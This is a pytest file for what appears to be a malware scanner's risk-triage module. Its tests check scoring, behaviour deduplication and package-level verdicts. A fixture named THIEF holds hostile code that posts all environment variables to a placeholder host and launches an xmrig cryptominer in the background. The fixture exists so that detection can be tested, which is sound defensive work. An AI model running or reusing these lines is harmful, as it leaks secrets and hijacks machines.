"""The verdict on a file says what it would do, and its score is the sum of its reasons."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import codeguard
from codeguard.model import Category, Confidence, Finding, Rule, Severity, Span
from codeguard.triage.risk import assess

THIEF = """\
import os, requests
requests.post("https://c.example.invalid/x", json=dict(os.environ))
os.system("nohup ./xmrig -B &")
"""


def rule(name: str, behaviour: str = "") -> Rule:
    return Rule(
        name,
        "a-name",
        "Something is done",
        Category.MALICIOUS,
        Severity.HIGH,
        Confidence.HIGH,
        "native",
        behaviour=behaviour,
    )


def finding(
    rule_id: str,
    severity: Severity = Severity.HIGH,
    confidence: Confidence = Confidence.HIGH,
    path: str = "a.py",
    category: Category = Category.MALICIOUS,
) -> Finding:
    return Finding(rule_id, path, Span(3, 0, 3, 5), "m", category, severity, confidence, "native")


RULES = {r.id: r for r in (rule("X1", "mine"), rule("X2", "hide"), rule("X3", "mine"), rule("X4"))}


def test_a_file_without_malicious_findings_has_no_verdict() -> None:
    assert assess([finding("X1", category=Category.SECURITY)], RULES) == ()


def test_each_behaviour_counts_once_by_its_worst_finding() -> None:
    (risk,) = assess([finding("X1", Severity.LOW), finding("X3"), finding("X3"), finding("X2", Severity.MEDIUM)], RULES)
    assert [(r.behaviour, r.rule_id) for r in risk.reasons] == [("mine", "X3"), ("hide", "X2")]
    assert risk.sentence == "This file would mine and hide."


def test_a_rule_of_another_engine_speaks_by_its_summary() -> None:
    (risk,) = assess([finding("X4")], RULES)
    assert risk.sentence == "This file would do this: something is done."


def test_a_package_is_judged_by_all_its_files() -> None:
    found = [finding("X1", path="p.whl/a.py"), finding("X2", path="p.whl/b.py"), finding("X1", path="c.py")]
    risks = {risk.path: risk for risk in assess(found, RULES, ["p.whl"])}
    assert set(risks) == {"p.whl", "p.whl/a.py", "p.whl/b.py", "c.py"}
    assert risks["p.whl"].sentence == "This package would mine and hide."
    assert risks["p.whl"].score > risks["p.whl/a.py"].score


@pytest.mark.parametrize(
    ("severity", "confidence", "level"),
    [
        (Severity.CRITICAL, Confidence.HIGH, "dangerous"),
        (Severity.HIGH, Confidence.HIGH, "dangerous"),
        (Severity.HIGH, Confidence.MEDIUM, "suspicious"),
        (Severity.MEDIUM, Confidence.HIGH, "suspicious"),
        (Severity.LOW, Confidence.LOW, "noticeable"),
    ],
)
def test_one_finding_makes_a_level(severity: Severity, confidence: Confidence, level: str) -> None:
    (risk,) = assess([finding("X1", severity, confidence)], RULES)
    assert risk.level == level


@given(
    st.lists(
        st.tuples(st.sampled_from(sorted(RULES)), st.sampled_from(list(Severity)), st.sampled_from(list(Confidence))),
        min_size=1,
    )
)
def test_reasons_add_up_to_a_score_that_no_further_finding_lowers(
    drawn: list[tuple[str, Severity, Confidence]],
) -> None:
    found = [finding(*one) for one in drawn]
    (risk,) = assess(found, RULES)
    assert 1 <= risk.score <= 100
    assert sum(reason.points for reason in risk.reasons) == risk.score
    (before,) = assess(found[:1], RULES)
    assert risk.score >= before.score


def test_a_scan_gives_the_verdict_on_a_file_and_on_a_package(tmp_path: Path) -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as whole:
        whole.writestr("p/__init__.py", THIEF)
    (tmp_path / "p-1.whl").write_bytes(packed.getvalue())
    report = codeguard.scan_paths([tmp_path / "p-1.whl"], engines=["native"])
    assert [risk.path for risk in report.risks] == ["p-1.whl", "p-1.whl/p/__init__.py"]
    assert report.risks[0].level == "dangerous"
    assert "send the environment" in report.risks[0].sentence
    assert "mine crypto-currency" in report.risks[0].sentence
